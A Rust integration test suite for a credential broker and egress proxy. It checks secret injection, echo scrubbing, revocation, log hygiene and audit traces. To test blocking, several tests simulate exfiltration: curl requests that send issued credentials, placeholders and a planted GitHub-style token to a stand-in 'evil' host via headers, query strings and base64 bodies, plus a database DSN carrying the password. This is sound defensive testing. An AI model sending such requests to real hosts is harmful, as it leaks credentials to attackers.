//! The broker and the proxy together, against real OpenBao and PostgreSQL: the proxy learns
//! invocations from the broker, swaps a placeholder for the real value only in its bound header
//! on its bound hosts, puts the placeholder back where an echo origin reflects the value, blocks
//! issued values and placeholders everywhere else, and the broker then revokes them on the
//! server. An ended invocation stops working on a connection that is already open.

mod support;

use std::process::Command;
use std::time::{Duration, Instant};

use support::broker::{Broker, BrokerSpec, KV, POLICY_T, POLICY_U, PROXY_TOKEN};
use support::secrets::{OpenBao, Postgres, seed};
use support::{Origin, OriginCerts, Place, Proxy, ProxySpec, basic, free_port, parse_answer, python, raw};

const NAMES: &[&str] = &[
    "api.origin.test",
    "echo.origin.test",
    "evil.origin.test",
    "tunnel.origin.test",
];

struct Stack {
    bao: OpenBao,
    pg: Postgres,
    broker: Broker,
    proxy: Proxy,
    origin: Origin,
    /// The CA of the test origins (what a client of a tunnel-only rule must trust).
    origin_ca: std::path::PathBuf,
    _certs_dir: tempfile::TempDir,
}

/// [`POLICY_T`] on the origin's port, plus a tunnel-only rule (bytes spliced, never seen).
fn policy(port: u16) -> String {
    POLICY_T.replace(
        "ports = [443]",
        &format!(
            "ports = [{port}]\nallow_private = [\"127.0.0.0/8\"]\n\n[[tools.egress]]\nid = \"opaque\"\nhosts = [\"tunnel.origin.test\"]\nports = [{port}]\nallow_private = [\"127.0.0.0/8\"]\ntraffic = \"tunnel\""
        ),
    )
}

impl Stack {
    fn start() -> Self {
        let bao = OpenBao::start();
        let pg = Postgres::start();
        seed(&bao, Some(&pg), KV);
        let certs_dir = tempfile::tempdir().expect("tempdir");
        let certs = OriginCerts::new(certs_dir.path(), NAMES);
        let origin = Origin::tls(Place::Host, "127.0.0.1", free_port(), &certs);
        let policy = policy(origin.port);
        let broker = Broker::start(&BrokerSpec {
            vault_address: bao.address(),
            auth: None,
            store: None,
            proxy_address: None,
            policies: &[("t", &policy), ("u", POLICY_U)],
        });
        let hosts: Vec<(&str, &str)> = NAMES.iter().map(|n| (*n, "127.0.0.1")).collect();
        let key = certs_dir.path().join("fingerprint.key");
        std::fs::write(&key, "tollgate-test-fingerprint-key-0123456789").expect("key");
        let extra = format!(
            "fingerprint_key = \"{}\"\n[broker]\nurl = \"{}\"\ntoken_file = \"{}\"\ncache_ttl = \"2s\"\ntimeout = \"1s\"\n",
            key.display(),
            broker.control_url(),
            broker.dir.path().join("proxy.token").display()
        );
        // At debug, so that the tests' checks for leaked values cover what dependencies log.
        let proxy = Proxy::start_logging(
            Place::Host,
            &ProxySpec {
                tenant_policy: &policy,
                origin_ca: &certs.ca,
                hosts: &hosts,
                nameservers: &[],
                extra: &extra,
            },
            "debug",
        );
        Self {
            bao,
            pg,
            broker,
            proxy,
            origin,
            origin_ca: certs.ca.clone(),
            _certs_dir: certs_dir,
        }
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.origin.port)
    }

    /// curl through the proxy as the invocation; (status, body).
    fn curl(&self, id: &str, secret: &str, args: &[&str]) -> (u16, String) {
        let out = Command::new("curl")
            .args(["-sS", "--max-time", "10", "-o", "-", "-w", "\n%{http_code}"])
            .args(["-x", &self.proxy.url(id, secret)])
            .args(args)
            .env("CURL_CA_BUNDLE", self.proxy.ca())
            .output()
            .expect("curl");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        let (body, code) = text.trim_end().rsplit_once('\n').unwrap_or(("", text.trim()));
        (code.trim().parse().unwrap_or(0), body.to_owned())
    }

    /// The value (or placeholder) the tool gets for credential `name`.
    fn value(&self, id: &str, secret: &str, name: &str) -> String {
        let (status, body) = self.broker.credential(id, secret, name);
        assert_eq!(status, 200, "{name}: {body}");
        body["value"].as_str().expect("value").to_owned()
    }

    /// One keep-alive client session through the proxy: a request to `url`, then the
    /// invocation is ended, then (after the cache bound) a second request on the same
    /// session. Returns what each printed: a status, or `refused` when no answer came.
    fn across_end(&self, id: &str, secret: &str, verify: &std::path::Path, url: &str) -> (String, String) {
        let script = r#"
import sys, time, requests
s = requests.Session()
s.trust_env = False
s.proxies = {"https": sys.argv[1]}
s.verify = sys.argv[2]
print(s.get(sys.argv[3], timeout=10).status_code, flush=True)
sys.stdin.readline()
time.sleep(2.5)
try:
    r = s.get(sys.argv[3], timeout=10)
    print(r.status_code, r.headers.get("x-tollgate-reason"), flush=True)
except requests.exceptions.RequestException as e:
    print("refused", type(e).__name__, flush=True)
"#;
        let mut child = Command::new(python())
            .args(["-c", script, &self.proxy.url(id, secret)])
            .arg(verify)
            .arg(url)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("python");
        let mut stdout = std::io::BufReader::new(child.stdout.take().expect("stdout"));
        let mut first = String::new();
        std::io::BufRead::read_line(&mut stdout, &mut first).expect("first");
        assert_eq!(self.broker.end(id).0, 200);
        std::io::Write::write_all(child.stdin.as_mut().expect("stdin"), b"go\n").expect("go");
        let mut second = String::new();
        std::io::BufRead::read_line(&mut stdout, &mut second).expect("second");
        let _ = child.wait();
        (first.trim().to_owned(), second.trim().to_owned())
    }

    fn ended(&self, id: &str, secret: &str) -> bool {
        let lookup = serde_json::json!({"invocation_id": id, "secret": secret}).to_string();
        self.broker.control(PROXY_TOKEN, "/v1/lookup", &lookup).0 == 401
    }
}

fn sha256(text: &str) -> String {
    let out = Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write as _;
            child.stdin.take().expect("stdin").write_all(text.as_bytes())?;
            child.wait_with_output()
        })
        .expect("sha256sum");
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .to_owned()
}

fn reason(body: &str) -> String {
    serde_json::from_str::<serde_json::Value>(body)
        .ok()
        .and_then(|v| v["reason"].as_str().map(str::to_owned))
        .unwrap_or_default()
}

fn wait_until(limit: Duration, mut done: impl FnMut() -> bool) -> Option<Duration> {
    let started = Instant::now();
    while started.elapsed() < limit {
        if done() {
            return Some(started.elapsed());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

#[test]
fn placeholders_become_the_real_value_only_on_their_bound_hosts_and_echoes_are_scrubbed() {
    let stack = Stack::start();
    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
    let placeholder = stack.value(&id, &secret, "api-key");
    let real = KV[0].2;

    // The bound host receives the real value in the bound header.
    let check = stack.url(
        "api.origin.test",
        &format!("/check?header=x-api-key&sha256={}", sha256(real)),
    );
    let (status, body) = stack.curl(
        &id,
        &secret,
        &["-H", &format!("X-Api-Key: {placeholder}"), &check],
    );
    assert_eq!(status, 200, "{body}\n{}", stack.proxy.log_text());
    assert!(
        body.contains("\"match\": true"),
        "the origin did not get the real value: {body}"
    );

    // An echo origin reflects the header: the tool sees its placeholder, never the value.
    let (status, body) = stack.curl(
        &id,
        &secret,
        &[
            "-H",
            &format!("X-Api-Key: {placeholder}"),
            &stack.url("echo.origin.test", "/echo"),
        ],
    );
    assert_eq!(status, 200, "{body}");
    assert!(!body.contains(real), "the real value came back to the tool");
    let echoed: serde_json::Value = serde_json::from_str(&body).expect("json");
    assert_eq!(echoed["headers"]["x-api-key"], placeholder.as_str());
    assert!(
        !stack.ended(&id, &secret),
        "legitimate use must not end the invocation"
    );
    let log = stack.proxy.log_text();
    assert!(
        log.contains("DEBUG"),
        "the proxy must have logged at debug for this check to mean anything"
    );
    assert!(
        !log.contains(real),
        "the injected value is in the proxy's debug log"
    );
    assert!(
        !stack.broker.log_text().contains(real),
        "the value is in the broker's log"
    );
}

#[test]
fn a_placeholder_sent_anywhere_else_is_blocked_and_the_invocation_revoked() {
    let stack = Stack::start();
    // Each attempt: curl arguments carrying the placeholder (EVIL and API stand for URLs).
    type Attempt = Box<dyn Fn(&str) -> Vec<String>>;
    let attempts: Vec<(&str, Attempt)> = vec![
        (
            "other host",
            Box::new(|p: &str| vec!["-H".into(), format!("X-Api-Key: {p}"), "EVIL".into()]),
        ),
        (
            "other header",
            Box::new(|p: &str| vec!["-H".into(), format!("X-Other: {p}"), "API".into()]),
        ),
        ("url", Box::new(|p: &str| vec![format!("API?leak={p}")])),
        (
            "base64 body",
            Box::new(|p: &str| {
                use base64::Engine as _;
                vec![
                    "--data-binary".into(),
                    base64::engine::general_purpose::STANDARD.encode(p),
                    "API".into(),
                ]
            }),
        ),
    ];
    for (what, args) in attempts {
        let (id, secret) = stack.broker.invocation("t", "fetch", &what.replace(' ', "-"));
        let placeholder = stack.value(&id, &secret, "api-key");
        let args: Vec<String> = args(&placeholder)
            .into_iter()
            .map(|a| {
                a.replace("EVIL", &stack.url("evil.origin.test", "/"))
                    .replace("API", &stack.url("api.origin.test", "/x"))
            })
            .collect();
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let (status, body) = stack.curl(&id, &secret, &refs);
        assert_eq!(
            (status, reason(&body).as_str()),
            (403, "issued_credential_misuse"),
            "{what}: {body}"
        );
        assert!(
            wait_until(Duration::from_secs(2), || stack.ended(&id, &secret)).is_some(),
            "{what}: not revoked"
        );
    }
}

#[test]
fn a_stolen_database_password_is_dead_on_the_server_within_a_second_of_the_block() {
    let stack = Stack::start();
    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
    // A request first, so the proxy has looked the invocation up before the password exists:
    // the password fetched next must still be known to the very next request.
    assert_eq!(
        stack
            .curl(&id, &secret, &[&stack.url("api.origin.test", "/warm")])
            .0,
        200
    );
    let db = stack.broker.credential(&id, &secret, "db").1;
    let (user, password) = (
        db["username"].as_str().expect("user").to_owned(),
        db["value"].as_str().expect("pw").to_owned(),
    );
    assert!(stack.pg.login(&user, &password));
    let body = format!("{{\"dsn\": \"postgres://{user}:{password}@db.example/prod\"}}");
    let blocked = Instant::now();
    let (status, answer) = stack.curl(
        &id,
        &secret,
        &["--data-binary", &body, &stack.url("api.origin.test", "/upload")],
    );
    assert_eq!(
        (status, reason(&answer).as_str()),
        (403, "issued_credential_misuse"),
        "{answer}"
    );
    assert!(
        wait_until(Duration::from_secs(5), || !stack.pg.login(&user, &password)).is_some(),
        "the password still logs in"
    );
    // Measured from sending the request to the first failed login (psql itself takes tens of
    // milliseconds); the README's benchmark gives the bound.
    eprintln!("exfil block to revoked on the server: {:?}", blocked.elapsed());
    assert!(
        !stack.proxy.log_text().contains(&password),
        "the password is in the proxy log"
    );
    assert!(
        !stack.broker.log_text().contains(&password),
        "the password is in the broker log"
    );

    // One timeline from both services' chains: who started it, what it got, what it sent,
    // the block and the revocation, with no secret value anywhere in it.
    let files = [
        stack.broker.dir.path().join("provenance.jsonl"),
        stack.proxy.dir.path().join("provenance.jsonl"),
    ];
    let trace = || {
        let out = support::tollgate()
            .args(["audit", "trace", &id])
            .args(&files)
            .output()
            .expect("trace");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    assert!(
        wait_until(Duration::from_secs(5), || trace().contains("credential.revoke")).is_some(),
        "{}",
        trace()
    );
    let text = trace();
    for expected in [
        "invocation.start",
        "credential.issue",
        "credential.deliver",
        "egress.allow",
        "egress.deny",
        "issued_credential_misuse",
        "invocation.end",
        "credential.revoke",
    ] {
        assert!(
            text.contains(expected),
            "{expected} missing from the trace:\n{text}"
        );
    }
    let json = support::tollgate()
        .args(["audit", "trace", &id, "--format", "json"])
        .args(&files)
        .output()
        .expect("trace");
    let verify = support::tollgate()
        .args(["audit", "verify"])
        .args(&files)
        .output()
        .expect("verify");
    assert!(
        verify.status.success(),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
    let broker_file = std::fs::read(&files[0]).expect("broker file");
    let proxy_file = std::fs::read(&files[1]).expect("proxy file");
    for output in [
        text.as_bytes(),
        &json.stdout[..],
        &broker_file[..],
        &proxy_file[..],
    ] {
        assert!(
            !String::from_utf8_lossy(output).contains(&password),
            "the password is in a provenance record"
        );
    }
    // OpenBao's own audit log joins the timeline: the token made for the invocation, the
    // database user minted under it, the revocation.
    let joined = support::tollgate()
        .args(["audit", "trace", &id])
        .args(&files)
        .arg("--openbao")
        .arg(stack.bao.audit_log())
        .output()
        .expect("trace");
    let joined = String::from_utf8_lossy(&joined.stdout).into_owned();
    for expected in [
        "openbao.path=auth/token/create",
        "openbao.path=database/creds/readonly",
        "openbao.path=auth/token/revoke-accessor",
    ] {
        assert!(
            joined.contains(expected),
            "{expected} missing from the joined trace:\n{joined}"
        );
    }
    assert!(!joined.contains(&password));
    eprintln!("{joined}");
    // The same timeline as a page: Chromium renders it with no network, and its DOM holds a
    // row for every event of the trace, denials and revocations marked out.
    let with_openbao = |format: &str| {
        let out = support::tollgate()
            .args(["audit", "trace", &id, "--format", format])
            .args(&files)
            .arg("--openbao")
            .arg(stack.bao.audit_log())
            .output()
            .expect("trace");
        assert!(out.status.success());
        out.stdout
    };
    let events: Vec<serde_json::Value> = serde_json::from_slice(&with_openbao("json")).expect("json trace");
    let page = stack.proxy.dir.path().join("trace.html");
    std::fs::write(&page, with_openbao("html")).expect("page");
    let dom = support::rendered_dom(&page);
    assert!(!dom.contains(&password), "the password is in the page");
    assert_eq!(
        dom.matches("<tr id=\"e").count(),
        events.len(),
        "one row per event in the rendered page"
    );
    for (n, event) in events.iter().enumerate() {
        let kind = event["type"].as_str().expect("type");
        let row = format!("<tr id=\"e{n}\" class=\"event ");
        let at = dom
            .find(&row)
            .unwrap_or_else(|| panic!("event {n} ({kind}) is not in the DOM"));
        let row_text = &dom[at..dom[at..].find("</tr>").map_or(dom.len(), |end| at + end)];
        assert!(row_text.contains(&format!("data-type=\"{kind}\"")), "{row_text}");
        let tone = match kind {
            "egress.deny" | "credential.deny" | "budget.exceeded" => "deny",
            "credential.revoke" => "revoke",
            _ => "",
        };
        if !tone.is_empty() {
            assert!(
                row_text.starts_with(&format!("{row}{tone}\"")),
                "{kind} does not stand out: {row_text}"
            );
        }
    }
    assert!(dom.contains("class=\"lane\""), "lanes per service");
    for lane in ["broker", "proxy", "openbao"] {
        assert!(
            dom.contains(&format!("<div class=\"name\">{lane}</div>")),
            "no {lane} lane"
        );
    }
    // An edited record is caught, with its line.
    let edited = String::from_utf8_lossy(&proxy_file).replacen("egress.deny", "egress.allow", 1);
    std::fs::write(&files[1], edited).expect("tamper");
    let verify = support::tollgate()
        .args(["audit", "verify"])
        .args(&files)
        .output()
        .expect("verify");
    assert!(!verify.status.success());
    assert!(String::from_utf8_lossy(&verify.stdout).contains("was changed after it was written"));
}

#[test]
fn issued_values_are_blocked_even_where_the_tenant_switched_known_secret_off() {
    let stack = Stack::start();
    // Report mode and known-secret off would let an ordinary finding through; not this.
    let relaxed = policy(stack.origin.port).replace(
        "mode = \"enforce\"",
        "mode = \"report\"\n[detectors]\ndisable = [\"known-secret\"]",
    );
    std::fs::write(stack.proxy.policy_path(), relaxed).expect("policy");
    std::thread::sleep(Duration::from_millis(1500));
    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
    let value = stack.value(&id, &secret, "child-token");
    let (status, body) = stack.curl(
        &id,
        &secret,
        &[
            "-H",
            &format!("X-Token: {value}"),
            &stack.url("evil.origin.test", "/"),
        ],
    );
    assert_eq!(
        (status, reason(&body).as_str()),
        (403, "issued_credential_misuse"),
        "{body}"
    );
}

#[test]
fn an_ended_invocation_stops_on_an_open_connection_and_a_dead_broker_is_a_503() {
    let mut stack = Stack::start();
    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
    // One keep-alive connection through the proxy: a request, the end, a request later.
    let (first, second) = stack.across_end(
        &id,
        &secret,
        &stack.proxy.ca(),
        &stack.url("api.origin.test", "/x"),
    );
    assert_eq!(first, "200");
    assert_eq!(
        second, "407 invocation_ended",
        "an ended invocation went on working on its open connection"
    );

    // The same through a tunnel-only rule, where the proxy sees no request: the open tunnel
    // is cut, and a new one refused.
    let (id, secret) = stack.broker.invocation("t", "fetch", "s-tunnel");
    let (first, second) = stack.across_end(
        &id,
        &secret,
        &stack.origin_ca,
        &stack.url("tunnel.origin.test", "/x"),
    );
    assert_eq!(first, "200", "the tunnel-only rule must work before the end");
    assert!(
        second.starts_with("refused"),
        "an ended invocation went on through its open tunnel: {second}"
    );

    // The broker gone: a clear 503, never a 407 and never a hang.
    let (id2, secret2) = stack.broker.invocation("t", "fetch", "s2");
    stack.broker.kill();
    let started = Instant::now();
    let target = format!("api.origin.test:{}", stack.origin.port);
    let head = format!(
        "CONNECT {target} HTTP/1.1\r\nhost: {target}\r\nproxy-authorization: {}\r\n\r\n",
        basic(&id2, &secret2)
    );
    let (status, body) = parse_answer(&raw(Place::Host, stack.proxy.port, head.as_bytes(), 5.0));
    let body = body.unwrap_or_default();
    assert_eq!(
        (status, body["reason"].as_str()),
        (503, Some("broker_unavailable")),
        "{body}"
    );
    assert!(started.elapsed() < Duration::from_secs(5));
    stack.broker.launch();
    assert_eq!(
        stack
            .curl(&id2, &secret2, &[&stack.url("api.origin.test", "/x")])
            .0,
        200,
        "the proxy recovers by itself"
    );
}

/// The proxy's fingerprint of `value` under the test key (HMAC-SHA-256, first 16 bytes).
fn fingerprint(value: &str) -> String {
    let out = Command::new(python())
        .args(["-c", "import hmac,hashlib,sys; print('fp:' + hmac.new(sys.argv[1].encode(), sys.argv[2].encode(), hashlib.sha256).hexdigest()[:32])"])
        .args(["tollgate-test-fingerprint-key-0123456789", value])
        .output()
        .expect("python");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

#[test]
fn a_fingerprint_exemption_lets_a_documented_example_through_but_never_an_issued_value() {
    let stack = Stack::start();
    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
    let token = stack.value(&id, &secret, "child-token");
    let example = "AKIAIOSFODNN7EXAMPLE";
    let evil = stack.url("evil.origin.test", "/");
    let (status, body) = stack.curl(&id, &secret, &["-H", &format!("X-Key: {example}"), &evil]);
    assert_eq!(
        status, 403,
        "the documented example is blocked by default: {body}"
    );
    let exempting = format!(
        "{}\n[detectors]\nexemptions = [{{ hosts = [\"evil.origin.test\"], fingerprints = [\"{}\", \"{}\"], reason = \"test\" }}]\n",
        policy(stack.origin.port),
        fingerprint(example),
        fingerprint(&token)
    );
    std::fs::write(stack.proxy.policy_path(), exempting).expect("policy");
    assert!(
        wait_until(Duration::from_secs(5), || stack
            .curl(&id, &secret, &["-H", &format!("X-Key: {example}"), &evil])
            .0
            == 200)
        .is_some(),
        "the exemption by fingerprint must let the example through: {}",
        stack.proxy.log_text()
    );
    let (status, body) = stack.curl(&id, &secret, &["-H", &format!("X-Token: {token}"), &evil]);
    assert_eq!(
        (status, reason(&body).as_str()),
        (403, "issued_credential_misuse"),
        "{body}"
    );
}

/// Every form a value may take that the detectors see through, so that a record holding any
/// of them counts as a leak.
fn encodings(value: &str) -> Vec<String> {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let hex: String = value.bytes().map(|b| format!("{b:02x}")).collect();
    let percent: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
    vec![
        value.to_owned(),
        STANDARD.encode(value),
        STANDARD_NO_PAD.encode(value),
        URL_SAFE_NO_PAD.encode(value),
        hex.clone(),
        hex.to_uppercase(),
        percent,
    ]
}

#[test]
fn no_secret_value_reaches_a_log_a_record_or_a_trace_at_debug() {
    use base64::Engine as _;
    let stack = Stack::start();
    let (id, secret) = stack.broker.invocation("t", "fetch", "s");
    let placeholder = stack.value(&id, &secret, "api-key");
    let token = stack.value(&id, &secret, "child-token");
    let db = stack.broker.credential(&id, &secret, "db").1;
    let password = db["value"].as_str().expect("password").to_owned();
    // A value only its shape gives away, made fresh for this run.
    let planted = format!("ghp_{}", &sha256(&id)[..36]);
    let real = KV[0].2;
    let secrets: Vec<(&str, &str)> = vec![
        ("the injected key", real),
        ("the child token", &token),
        ("the database password", &password),
        ("a planted GitHub token", &planted),
        ("the proxy credential's secret", &secret),
    ];

    // Allowed: the bound host gets the real value injected in place of the placeholder.
    let check = stack.url(
        "api.origin.test",
        &format!("/check?header=x-api-key&sha256={}", sha256(real)),
    );
    let (status, body) = stack.curl(
        &id,
        &secret,
        &["-H", &format!("X-Api-Key: {placeholder}"), &check],
    );
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("\"match\": true"), "{body}");
    // Blocked: the planted token in the query, a header and the body, plain and base64'd.
    let encoded = base64::engine::general_purpose::STANDARD.encode(&planted);
    let evil = |path: &str| stack.url("evil.origin.test", path);
    for args in [
        vec![evil(&format!("/q?token={planted}"))],
        vec![
            "-H".to_owned(),
            format!("Authorization: token {planted}"),
            evil("/h"),
        ],
        vec![
            "--data-binary".to_owned(),
            format!("{{\"k\":\"{encoded}\"}}"),
            evil("/b"),
        ],
    ] {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let (status, body) = stack.curl(&id, &secret, &args);
        assert_eq!(
            (status, reason(&body).as_str()),
            (403, "secret_detected"),
            "{body}"
        );
    }
    // Blocked last, since it ends the invocation: an issued value sent where it is not bound.
    let (status, body) = stack.curl(
        &id,
        &secret,
        &["--data-binary", &format!("token={token}"), &evil("/upload")],
    );
    assert_eq!(
        (status, reason(&body).as_str()),
        (403, "issued_credential_misuse"),
        "{body}"
    );

    let files = [
        stack.broker.dir.path().join("provenance.jsonl"),
        stack.proxy.dir.path().join("provenance.jsonl"),
    ];
    let trace = |format: &str| {
        let out = support::tollgate()
            .args(["audit", "trace", &id, "--format", format])
            .args(&files)
            .arg("--openbao")
            .arg(stack.bao.audit_log())
            .output()
            .expect("trace");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    assert!(
        wait_until(Duration::from_secs(5), || trace("text")
            .contains("credential.revoke"))
        .is_some(),
        "{}",
        trace("text")
    );
    let verify = support::tollgate()
        .args(["audit", "verify"])
        .args(&files)
        .output()
        .expect("verify");
    let (proxy_log, broker_log) = (stack.proxy.log_text(), stack.broker.log_text());
    assert!(
        proxy_log.contains("DEBUG") && broker_log.contains("DEBUG"),
        "both services logged at debug"
    );
    let mut outputs: Vec<(String, String)> = vec![
        ("the proxy's log".to_owned(), proxy_log),
        ("the broker's log".to_owned(), broker_log),
        ("the text trace".to_owned(), trace("text")),
        ("the JSON trace".to_owned(), trace("json")),
        ("the HTML trace".to_owned(), trace("html")),
        (
            "audit verify".to_owned(),
            String::from_utf8_lossy(&verify.stdout).into_owned(),
        ),
    ];
    for file in &files {
        outputs.push((
            file.display().to_string(),
            std::fs::read_to_string(file).expect("provenance"),
        ));
    }
    assert!(outputs[2].1.contains("egress.deny") && outputs[2].1.contains("credential.issue"));
    for (what, value) in &secrets {
        for form in encodings(value) {
            for (place, text) in &outputs {
                assert!(!text.contains(&form), "{what} is in {place} (as {form})");
            }
        }
    }
}

#[test]
fn under_load_every_request_of_every_invocation_is_recorded_and_the_chains_verify() {
    const INVOCATIONS: usize = 16;
    const REQUESTS: usize = 25;
    let stack = Stack::start();
    let invocations: Vec<(String, String)> = (0..INVOCATIONS)
        .map(|i| stack.broker.invocation("t", "fetch", &format!("s{i}")))
        .collect();
    // One thread per invocation, all at once, each on its own keep-alive session.
    let script = r#"
import sys, threading, requests
ca, url, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
proxies = sys.argv[4:]
codes = []
def run(proxy):
    s = requests.Session()
    s.trust_env = False
    s.proxies = {"https": proxy}
    s.verify = ca
    for i in range(n):
        codes.append(s.get(f"{url}?i={i}", timeout=30).status_code)
threads = [threading.Thread(target=run, args=(p,)) for p in proxies]
for t in threads: t.start()
for t in threads: t.join()
print(" ".join(map(str, codes)))
"#;
    let out = Command::new(support::python())
        .args(["-c", script])
        .arg(stack.proxy.ca())
        .arg(stack.url("api.origin.test", "/load"))
        .arg(REQUESTS.to_string())
        .args(invocations.iter().map(|(id, secret)| stack.proxy.url(id, secret)))
        .output()
        .expect("load");
    let codes = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        codes.split_whitespace().filter(|c| *c == "200").count(),
        INVOCATIONS * REQUESTS,
        "{codes}"
    );
    let records = stack.proxy.dir.path().join("provenance.jsonl");
    let count = |id: &str| {
        std::fs::read_to_string(&records)
            .unwrap_or_default()
            .lines()
            .filter(|l| {
                l.contains("\"type\":\"egress.allow\"")
                    && l.contains(&format!("\"tollgate.invocation.id\":\"{id}\""))
            })
            .count()
    };
    for (id, _) in &invocations {
        assert!(
            wait_until(Duration::from_secs(5), || count(id) == REQUESTS).is_some(),
            "invocation {id}: {} egress records for {REQUESTS} requests",
            count(id)
        );
    }
    let key = std::fs::read_to_string(stack.proxy.dir.path().join("provenance.jsonl.key.pub")).expect("key");
    let verify = support::tollgate()
        .args(["audit", "verify", "--key", key.trim()])
        .arg(&records)
        .output()
        .expect("verify");
    assert!(
        verify.status.success(),
        "{}",
        String::from_utf8_lossy(&verify.stdout)
    );
}
